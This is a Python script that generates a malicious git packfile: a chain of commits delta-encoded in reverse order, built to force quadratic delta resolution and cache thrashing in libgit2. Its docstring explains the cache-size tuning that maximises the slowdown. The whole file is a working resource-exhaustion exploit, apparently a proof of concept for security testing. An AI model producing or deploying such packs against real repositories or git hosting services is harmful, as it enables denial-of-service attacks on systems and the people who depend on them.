#!/usr/bin/env python3
"""Write a pack of K commits forming one first-parent chain on top of PARENT,
each commit stored as an OFS_DELTA on the commit before it (base = the
OLDEST commit, the reverse of what git's pack-objects writes).

Reading the chain newest-first (what every history walk does) makes libgit2
unpack commit i through its whole delta chain: libgit2's pack cache keeps
only the chain's root base, never the intermediate results, so walking the
K commits costs K^2/2 delta applications.

usage: commit_chain_pack.py K PARENT TREE OUT.pack [MSG_BYTES]  -> prints the tip id

With MSG_BYTES near 1 MiB (under object-bytes and libgit2's 1 MiB per-entry
pack cache limit), 16 commits fill libgit2's 16 MiB pack cache, which is then
flushed whole: every 16th commit read rebuilds the chain from its root.
"""
import hashlib, struct, sys, zlib

from packfmt import varint, obj_header, ofs  # noqa: E402

def copy_op(offset, size):
    op, args = 0x80, bytearray()
    for i in range(4):
        if (offset >> (8 * i)) & 0xFF:
            op |= 1 << i
            args.append((offset >> (8 * i)) & 0xFF)
    for i in range(3):
        if (size >> (8 * i)) & 0xFF:
            op |= 1 << (4 + i)
            args.append((size >> (8 * i)) & 0xFF)
    return bytes([op]) + bytes(args)

k, parent, tree, path = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
msg = int(sys.argv[5]) if len(sys.argv) > 5 else 2
tail = b"author Mallory <m@x> 1700000000 +0000\ncommitter Mallory <m@x> 1700000000 +0000\n\n" + b"x" * (msg - 1) + b"\n"
def commit(p):
    return b"tree " + tree.encode() + b"\nparent " + p.encode() + b"\n" + tail
pre = len(b"tree ") + 40 + len(b"\nparent ")
body = bytearray(b"PACK" + struct.pack(">II", 2, k))
prev = commit(parent)
prev_at = len(body)
body += obj_header(1, len(prev)) + zlib.compress(prev, 9)
p = hashlib.sha1(b"commit %d\0" % len(prev) + prev).hexdigest()
for i in range(1, k):
    cur = commit(p)
    at = len(body)
    delta = (varint(len(prev)) + varint(len(cur)) + copy_op(0, pre)
             + bytes([40]) + p.encode() + copy_op(pre + 40, len(cur) - pre - 40))
    body += obj_header(6, len(delta)) + ofs(at - prev_at) + zlib.compress(delta, 9)
    prev, prev_at = cur, at
    p = hashlib.sha1(b"commit %d\0" % len(cur) + cur).hexdigest()
body += hashlib.sha1(body).digest()
open(path, "wb").write(body)
sys.stderr.write(f"{path}: {len(body)} bytes, {k} commits, delta depth {k - 1}\n")
print(p)
